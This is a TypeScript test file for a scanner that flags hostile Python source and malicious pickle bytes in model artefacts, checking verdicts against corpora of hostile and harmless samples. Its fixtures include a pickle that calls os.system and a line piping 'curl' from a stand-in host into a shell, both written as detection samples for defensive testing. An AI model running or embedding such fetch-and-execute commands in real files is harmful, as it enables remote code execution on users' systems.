import assert from 'node:assert/strict';
import { test } from 'node:test';
import { callingPickle } from '../../../../test/corpus/model-scanner/build-bytes.ts';
import { harmlessSources } from '../../../../test/corpus/model-scanner/python-harmless.ts';
import { hostileSources } from '../../../../test/corpus/model-scanner/python-hostile.ts';
import { reportOf } from '../../../../test/corpus/model-scanner/read-artefact.ts';
import { judgeSource } from './testing/judge-source.ts';

const order = ['malicious', 'suspicious', 'incomplete', 'risky', 'clean'];
const atLeast = (verdict: string, bar: string) => order.indexOf(verdict) <= order.indexOf(bar);

for (const { title, text, name, alone, activated } of hostileSources)
  test(`hostile Python is found: ${title}`, () => {
    const verdict = judgeSource(text, name);
    const told = JSON.stringify([verdict.alone, verdict.activated, verdict.findings.map(({ evidence }) => evidence)]);
    assert.ok(atLeast(verdict.alone, alone), `alone ${told}`);
    assert.ok(atLeast(verdict.activated, activated), `activated ${told}`);
    for (const { where } of verdict.findings) assert.ok((where.line ?? 0) >= 1 && (where.line ?? 0) <= text.split('\n').length);
  });

for (const { title, text, name, activated } of harmlessSources)
  test(`ordinary Python stays clean: ${title}`, () => {
    const verdict = judgeSource(text, name);
    const loud = verdict.findings.filter(({ id, severity }) => severity !== 'informational' && id !== 'python-loader-call');
    assert.deepEqual(
      loud.map(({ id, evidence }) => `${id} ${evidence}`),
      [],
    );
    assert.deepEqual(verdict.artefact.unread, []);
    if (activated !== 'acts')
      assert.ok(
        ['clean', 'risky'].includes(verdict.activated),
        `activated ${verdict.activated}: ${JSON.stringify(verdict.findings.map(({ evidence }) => evidence))}`,
      );
  });

test('the corpus is as large as it should be', () => {
  assert.ok(hostileSources.length >= 60 && harmlessSources.length >= 60, `${hostileSources.length} and ${harmlessSources.length}`);
});

test('bytes that the source unpickles are judged like a file of their own', () => {
  const pickle = Buffer.from(callingPickle).toString('base64');
  const report = reportOf(Buffer.from(`import pickle, base64\nx = pickle.loads(base64.b64decode('${pickle}'))\n`), 'loader.py');
  assert.equal(report.verdict, 'malicious');
  assert.match(report.findings[0]?.where.containerPath.at(-1) ?? '', /bytes unpickled in line 2/);
});

test('so are bytes behind a file in memory', () => {
  const text = (call: string) => `import pickle, io\nx = ${call}\n`;
  const bytes = 'io.BytesIO(b"cos\\nsystem\\n(S\'touch /tmp/marker\'\\ntR.")';
  for (const call of [`pickle.Unpickler(${bytes}).load()`, `pickle.load(${bytes})`])
    assert.equal(reportOf(Buffer.from(text(call)), 'loader.py').verdict, 'malicious', call);
});

test('source without a telling name is recognised by its first lines', () => {
  const text = "import os\nos.system('curl https://files.example/x | sh')\n";
  for (const name of ['weights', 'pytorch_model.bin', 'x.dat']) assert.equal(reportOf(Buffer.from(text), name).verdict, 'malicious', name);
  assert.equal(reportOf(Buffer.from(`# Notes\n\n\`\`\`\n${text}\`\`\`\n`), 'README.md').verdict, 'clean');
});

test('a name that an effect fact knows is found by the table alone', () => {
  const { artefact } = judgeSource("import subprocess\nsubprocess.getoutput('touch /tmp/marker')\n");
  assert.deepEqual(
    artefact.sourceCalls.map(({ expression, effect, runs }) => [expression, effect, runs]),
    [["subprocess.getoutput('touch /tmp/marker')", 'exec', 'on-import']],
  );
});
